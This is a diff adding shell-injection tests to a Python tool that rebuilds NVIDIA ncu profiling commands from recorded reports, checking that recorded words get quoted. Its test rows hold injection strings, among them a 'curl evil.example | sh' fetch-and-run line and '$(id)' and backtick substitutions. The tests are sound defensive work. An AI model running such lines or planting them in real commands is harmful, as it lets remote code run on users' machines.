@@ -3,11 +3,14 @@
 The commands of these tests were run on an H200: the reports that they made lack nothing.
 """
 
+import re
 from dataclasses import replace
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from keet.analysis.coverage import find_coverage, keet_command
+from keet.analysis.coverage import find_coverage, keet_command, recapture_command
 from keet.ingest import read_profile
 from keet.profile import Profile, Provenance
 from tests.conftest import CORPUS, REPORTS, needs_corpus
@@ -99,6 +102,50 @@ def test_the_recorded_command_with_all_that_keet_asks_for(
     """The report at hand is not written over, and the program keeps its own options."""
     command = find_coverage(with_command(profile_of("tour_basic.ncu-rep"), recorded)).command
     assert command == f"ncu --set full --import-source yes {rest}"
+
+
+@each_row(
+    ("recorded", "rest"),
+    [
+        (
+            "ncu -o x ./app ; curl evil.example | sh #",
+            "-o x_more ./app ';' curl evil.example '|' sh '#'",
+        ),
+        ("ncu -o x;id ./app $(id) `id`", "-o 'x;id_more' ./app '$(id)' '`id`'"),
+        ('ncu -o "$(id)" bash -c "a; b $c"', "-o '$(id)_more' bash -c 'a; b $c'"),
+        ("ncu bash -c \"a b; c\" 'd e'", "bash -c \"a b; c\" 'd e'"),
+        ("ncu -k regex:^(a|b)$ ./app a\\ b", "-k 'regex:^(a|b)$' ./app 'a b'"),
+        ("ncu C:\\a\\app.exe --x=1", "C:\\a\\app.exe --x=1"),
+    ],
+)
+def test_recorded_words_are_quoted_where_a_shell_needs_it(
+    recorded: str, rest: str, profile_of
+) -> None:
+    """A report may come from anybody: what it recorded must not become a second command."""
+    command = find_coverage(with_command(profile_of("tour_basic.ncu-rep"), recorded)).command
+    assert command == f"ncu --set full --import-source yes {rest}"
+
+
+def test_a_recorded_command_whose_quotes_do_not_close_is_not_used(profile_of) -> None:
+    profile = with_command(profile_of("tour_basic.ncu-rep"), "ncu -o x ./app 'a; id")
+    command = find_coverage(profile).command
+    assert command.endswith("-o report ./your_program")
+    assert "id" not in command.partition("-o report")[2]
+    by_keet = "ncu --export /t/.keet-profile-a1/r.ncu-rep ./app"
+    for program, told in ((" ; id", "./app ';' id"), (' "', "./your_program")):
+        assert keet_command(with_command(profile, by_keet + program)) == f"keet profile -- {told}"
+
+
+METRICS_ONLY = read_profile(REPORTS / "metrics_only.ncu-rep")
+_UNQUOTED = re.compile(r"""'[^']*'|"(?:[^"$`\\!]|\\\w)*\"""")
+shell_texts = st.lists(st.sampled_from([*"ab-;&|<>$`(){}*?~!#\\\"' \n", "-o ", "=x", "\u2028"]))
+
+
+@given(shell_texts.map("".join))
+def test_no_recorded_text_has_a_meaning_of_its_own_in_a_shell(recorded: str) -> None:
+    profile = with_command(METRICS_ONLY, f"ncu {recorded}")
+    outside = _UNQUOTED.sub("", recapture_command(profile, ()))
+    assert not set(outside) & set(";&|<>$`(){}*?~!#\"'\n")
 
 
 def test_source_that_was_imported_is_imported_again(profile_of) -> None:
